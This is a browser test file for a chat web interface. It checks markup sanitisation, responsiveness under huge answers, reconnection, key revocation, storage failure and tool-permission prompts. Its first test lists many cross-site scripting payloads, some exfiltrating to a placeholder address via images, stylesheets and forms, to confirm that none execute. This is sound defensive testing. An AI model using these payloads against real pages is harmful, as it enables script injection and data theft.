// What models and networks do to a page: output as an attack, a server that goes and comes back, keys that end, storage
// that is full, answers that are longer than a visit.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { accessible, ask, closeAll, open, serve, shot } from "./browser.mjs";
import { begin, frame, last, proxy } from "./proxy.mjs";

let server, front, text = "", odo = null, hold = null;
const bodies = [];
before(async () => {
    server = await serve();
    front = await proxy(server.url, (req, res, forward) => {
        if (req.url !== "/v1/chat/completions") return false;
        if (hold) return hold(req, res, forward);
        let body = "";
        req.on("data", (d) => (body += d));
        req.on("end", () => {
            bodies.push(JSON.parse(body));
            begin(res);
            if (odo) res.write(frame({}, { odo }));
            res.end(frame({ content: text }) + last);
        });
        return true;
    });
});
after(async () => {
    await closeAll();
    await front.stop();
    await server.stop();
});

async function answered(page, what) {
    text = what;
    await ask(page, "go on");
}

test("markup of a model neither runs nor loads anything", async () => {
    const { page, seen } = await open(front.url);
    const vectors = [
        "<script>window.pwned=1</script>", "<img src=x onerror=\"window.pwned=2\">", "<svg onload=\"window.pwned=3\"><script>window.pwned=3</script></svg>",
        "<svg><foreignObject><body onload=window.pwned=4></foreignObject></svg>", "[a](javascript:window.pwned=5)", "[b](JaVaScRiPt&#58;window.pwned=6)",
        "[c](data:text/html,<script>window.pwned=7</script>)", "[d](vbscript:x)", "![e](http://192.0.2.1/leak.png?secret)", "![f](//192.0.2.1/leak.png)",
        "<a href=\"javascript:window.pwned=8\">x</a>", "<iframe src=\"javascript:window.pwned=9\"></iframe>", "<form action=http://192.0.2.1><button>x</button></form>",
        "<style>@import 'http://192.0.2.1/x.css';body{display:none}</style>", "<link rel=stylesheet href=http://192.0.2.1/x.css>", "<base href=http://192.0.2.1/>",
        "<meta http-equiv=refresh content=\"0;url=http://192.0.2.1/\">", "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=10>", "<object data=http://192.0.2.1/></object>",
        "<input autofocus onfocus=window.pwned=11>", "<details open ontoggle=window.pwned=12>", "<div id=app name=cookie style=position:fixed;inset:0>x</div>",
        "```html\n<script>window.pwned=13</script>\n```", "`<img src=x onerror=window.pwned=14>`", "$\\href{javascript:window.pwned=15}{x}$", "$$\\includegraphics{http://192.0.2.1/x.png}$$",
        "| <img src=x onerror=window.pwned=16> |\n|---|\n| [x](javascript:window.pwned=17) |", "<http://192.0.2.1/a\"onmouseover=\"window.pwned=18>", "\u202e\u2066<script>window.pwned=19</script>", "<template><script>window.pwned=20</script></template>",
    ];
    await answered(page, vectors.join("\n\n"));
    await page.waitForTimeout(500);
    for (const link of await page.locator(".turn.assistant .markdown a").all()) await link.hover();
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    const found = await page.evaluate(() => [...document.querySelectorAll(".turn.assistant .markdown *")].flatMap((el) => [
        ...(["SCRIPT", "IFRAME", "OBJECT", "FORM", "STYLE", "LINK", "BASE", "META", "TEMPLATE"].includes(el.tagName.toUpperCase()) ? [el.tagName] : []),
        ...[...el.attributes].filter((a) => /^on/i.test(a.name) || (/^(href|src|xlink:href|action)$/i.test(a.name) && !/^(https?:|mailto:|#|data:image\/)/i.test(a.value))).map((a) => `${el.tagName} ${a.name}=${a.value}`)]));
    assert.deepEqual(found, []);
    assert.deepEqual(seen.requests.filter((u) => !u.startsWith(front.url) && !u.startsWith("data:") && !u.startsWith("blob:")), []);
    assert.equal(new URL(page.url()).origin, front.url);
    for (const link of await page.locator(".turn.assistant .markdown a[href]").all()) assert.match(await link.getAttribute("rel") ?? "", /noopener/);
    await shot(page, "hostile-markup");
});

test("a line of 1 MB and a table of 10,000 columns end in a page that answers", async () => {
    const { page } = await open(front.url);
    for (const [name, what] of [["line", "x".repeat(1 << 20)], ["words", "word ".repeat(200_000)], ["table", `|${"a|".repeat(10_000)}\n|${"-|".repeat(10_000)}\n|${"b|".repeat(10_000)}\n`],
        ["brackets", "[".repeat(50_000)], ["quotes", ">".repeat(20_000)], ["stars", "*a ".repeat(50_000)], ["math", "$".repeat(50_001)], ["code", "```\n" + "y\n".repeat(50_000)]]) {
        const started = Date.now();
        await answered(page, what);
        await page.keyboard.press("Control+k");
        await page.getByRole("dialog", { name: "Command palette" }).waitFor();
        await page.keyboard.press("Escape");
        console.log(`${name}: ${Date.now() - started} ms`);
        assert.ok(Date.now() - started < 60_000, name);
    }
    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
});

test("a server that is gone is waited for, and what was asked meanwhile is kept", async () => {
    const { page } = await open(front.url);
    await answered(page, "first");
    front.down = true;
    await page.getByRole("textbox", { name: "Message", exact: true }).fill("are you there?");
    await page.keyboard.press("Enter");
    await page.locator(".banner").waitFor();
    await page.locator(".turn .error").filter({ hasText: "does not answer" }).waitFor();
    front.down = false;
    await page.locator(".banner").waitFor({ state: "hidden" });
    text = "back again";
    await page.getByRole("button", { name: "Answer again" }).last().click();
    await page.locator(".markdown").filter({ hasText: "back again" }).waitFor();
    const id = page.url().split("/c/")[1];
    await page.waitForFunction(async (id) => (await (await fetch(`/v1/conversations/${id}/items?limit=100`)).json()).data.some((x) => x.content[0].text === "back again"), id);
    const items = (await (await fetch(`${server.url}/v1/conversations/${id}/items?order=asc`)).json()).data;
    assert.ok(items.some((x) => x.content[0].text === "are you there?"));
});

test("a reload in the middle of an answer picks it up; so does a visit to another conversation", async () => {
    const { page } = await open(front.url);
    await page.getByLabel("Model", { exact: true }).selectOption("chimere-nano");
    // the real server answers, but no more than its beginning arrives here
    hold = (req, res, forward) => {
        let n = 0;
        void forward(req, res, (chunk) => n++ < 1 && res.write(chunk)).then(() => {});
        res.end = () => res;
        return true;
    };
    await page.getByRole("textbox", { name: "Message", exact: true }).fill("What is 12 plus 30?");
    await page.keyboard.press("Enter");
    await page.waitForFunction(() => sessionStorage.getItem("chimere.pending")?.includes("req_"));
    await page.getByRole("button", { name: "Stop the answer" }).waitFor();
    hold = null;
    await page.reload();
    await page.locator(".turn.assistant .markdown").filter({ hasText: "42" }).waitFor();
    assert.ok(front.seen.some((r) => r.startsWith("GET /chimere/v1/answers/req_")));
    const id = page.url().split("/c/")[1];
    await page.waitForFunction(async (id) => (await (await fetch(`/v1/conversations/${id}`)).json()).n_items === 2, id);
    assert.equal(await page.evaluate(() => sessionStorage.getItem("chimere.pending")), "{}");
    await page.reload();
    await page.locator(".turn.assistant .markdown").filter({ hasText: "42" }).waitFor();
    assert.equal(await page.locator(".turn").count(), 2);
});

test("a key that was revoked is asked for again", async () => {
    const keyed = await serve();
    const refused = async (headers) => { // the server reads its keys now and then
        while ((await fetch(`${keyed.url}/v1/models`, { headers })).status !== 401) await new Promise((go) => setTimeout(go, 50));
    };
    const run = (...args) => execFileSync(process.env.CHIMERE, ["key", ...args, "--state-dir", join(keyed.folder, "state")], { encoding: "utf8" });
    try {
        const key = run("add", "visitor").trim().split(/\s+/).at(-1);
        await refused({});
        const { page } = await open(keyed.url);
        await page.getByRole("dialog").getByRole("textbox").or(page.getByLabel("API key")).first().fill(key);
        await page.keyboard.press("Enter");
        await page.waitForFunction(() => document.querySelectorAll(".model-picker option").length > 1);
        await page.getByRole("dialog").waitFor({ state: "hidden" });
        run("remove", "visitor");
        await refused({ authorization: `Bearer ${key}` });
        await page.getByRole("textbox", { name: "Message", exact: true }).fill("hello");
        await page.keyboard.press("Enter");
        const dialog = page.getByRole("dialog").filter({ hasText: "asks for a key" });
        await dialog.getByRole("alert").filter({ hasText: "does not accept the key" }).waitFor();
        await page.waitForFunction(() => document.activeElement?.matches("dialog input[name=key]"));
        await accessible(page, "key dialog");
        await shot(page, "key-revoked");
    } finally {
        await keyed.stop();
    }
});

test("a browser that stores nothing more still chats", async () => {
    const { page, context, seen } = await open("about:blank");
    await context.addInitScript(() => {
        for (const kind of ["localStorage", "sessionStorage"])
            Object.defineProperty(Object.getPrototypeOf(window[kind]), "setItem", { value() { throw new DOMException("full", "QuotaExceededError"); } });
    });
    await page.goto(front.url);
    await answered(page, "still here");
    await page.locator(".markdown").filter({ hasText: "still here" }).waitFor();
    assert.deepEqual(seen.errors, []);
});

test("a tool that needs the user's word waits for it", async () => {
    const { page } = await open(front.url);
    await page.getByLabel("Model", { exact: true }).selectOption("odo");
    odo = { step: "confirm", data: { tools: ["write_file"] } };
    await answered(page, "I may not write.");
    const group = page.getByRole("group", { name: /wants to use: write_file/ });
    await group.waitFor();
    await accessible(page, "approval");
    await shot(page, "approval");
    odo = null;
    text = "Written.";
    await group.getByRole("button", { name: "Allow once" }).click();
    await page.locator(".markdown").filter({ hasText: "Written." }).waitFor();
    assert.deepEqual(bodies.at(-1).odo.confirm, ["write_file"]);
    await answered(page, "next");
    assert.equal(bodies.at(-1).odo.confirm, "ask"); // what was allowed once is asked for again
    odo = { step: "confirm", data: { tools: ["write_file"] } };
    await answered(page, "Again not.");
    odo = null;
    await page.getByRole("button", { name: "No", exact: true }).click();
    await group.waitFor({ state: "hidden" });
});

test("a call that writes, runs or sends waits in the stream for the user's permission", async () => {
    const { page } = await open(front.url);
    await page.getByLabel("Model", { exact: true }).selectOption("odo");
    let stream, said;
    hold = (req, res) => {
        let body = "";
        req.on("data", (d) => (body += d));
        req.on("end", () => {
            said = JSON.parse(body).odo;
            stream = begin(res) ?? res;
            res.write(frame({}, { odo: { step: "confirm", data: { id: "confirm-1", call: "c", name: "write_file", arguments: { path: "a.txt", text: "<b>hello</b>" }, wait_s: 120 } } }));
        });
        return true;
    };
    const allowed = [];
    await page.route("**/v1/confirm", async (route) => {
        allowed.push(JSON.parse(route.request().postData()));
        stream.write(frame({}, { odo: { step: "tool", data: { name: "write_file", arguments: "{}", ok: allowed.at(-1).allow, ms: 1 } } }));
        stream.end(frame({ content: allowed.at(-1).allow ? "It is written." : "It is not written." }) + last);
        await route.fulfill({ json: { ok: true } });
    });
    for (const [button, words] of [["Allow once", "It is written."], ["No", "It is not written."]]) {
        await page.getByRole("textbox", { name: "Message", exact: true }).fill("write it");
        await page.keyboard.press("Enter");
        const group = page.getByRole("group", { name: "May write_file run?" });
        await group.getByText("<b>hello</b>").waitFor(); // the arguments, as text
        if (button === "No") {
            await accessible(page, "permission");
            await shot(page, "permission");
        }
        await group.getByRole("button", { name: button, exact: true }).click();
        await page.locator(".markdown").filter({ hasText: words }).waitFor();
        await group.waitFor({ state: "hidden" });
        assert.equal(said.confirm, "ask");
    }
    assert.deepEqual(allowed, [{ id: "confirm-1", allow: true }, { id: "confirm-1", allow: false }]);
    hold = null;
});

test("files: a PDF through the server, text as it is; a source opens its passage; a comment goes with a rating", async () => {
    const { page, context } = await open(front.url);
    await page.getByLabel("Model", { exact: true }).selectOption("odo");
    await page.locator(".composer input[type=file]").setInputFiles([
        { name: "page.html", mimeType: "text/html", buffer: Buffer.from("<p>Hello from a page<script>1</script>") },
        { name: "plain.txt", mimeType: "text/plain", buffer: Buffer.from("Plain words") },
    ]);
    await page.locator(".composer .chip").nth(1).waitFor();
    await page.locator(".composer input[type=file]").setInputFiles([{ name: "cat.png", mimeType: "image/png", buffer: Buffer.from("not looked at") }]);
    await page.getByText("cat.png: odo reads text only").waitFor();
    assert.equal(await page.locator(".composer .chip").count(), 2);
    await page.getByRole("button", { name: "Settings of this chat" }).click();
    await page.getByRole("combobox", { name: "Skill" }).selectOption("word-count");
    await page.getByRole("complementary").getByRole("combobox", { name: "Pipeline" }).selectOption("odo:code");
    await page.getByRole("complementary").getByRole("button", { name: "Close" }).click();
    odo = { step: "sources", data: [{ n: 1, kind: "document", title: "Lighthouse", where: "notes.md", line: 3, page: 0, text: "The keeper is Ingrid." }] };
    await answered(page, "Ingrid [1].");
    odo = null;
    const sent = JSON.stringify(bodies.at(-1).messages);
    assert.match(sent, /Hello from a page/);
    assert.match(sent, /Plain words/);
    assert.doesNotMatch(sent, /<script>/);
    assert.equal(bodies.at(-1).odo.skill, "word-count");
    assert.equal(bodies.at(-1).model, "odo:code");
    await page.getByRole("list", { name: "Sources" }).getByRole("button").click();
    await page.getByRole("dialog", { name: "Lighthouse" }).getByText("The keeper is Ingrid.").waitFor();
    await shot(page, "source");
    await page.keyboard.press("Escape");
    const sentFeedback = [];
    await context.route("**/v1/feedback", (r) => {
        sentFeedback.push(r.request().postDataJSON());
        return r.fulfill({ json: { object: "feedback", score: 1 } });
    });
    hold = (req, res) => {
        req.resume();
        begin(res, { "x-odo-answer": "odo-1" });
        res.end(frame({ content: "Rated." }) + last);
        return true;
    };
    await ask(page, "rate me");
    hold = null;
    await page.getByRole("button", { name: "Bad answer" }).last().click();
    await page.getByRole("textbox", { name: /What was good or bad/ }).fill("wrong name");
    await page.locator(".turn .edit").getByRole("button", { name: "Send", exact: true }).click();
    for (let i = 0; i < 1200 && !sentFeedback.at(-1)?.comment; i++) await page.waitForTimeout(100);
    assert.deepEqual(sentFeedback.at(-1), { answer: "odo-1", rating: "down", comment: "wrong name" });
});
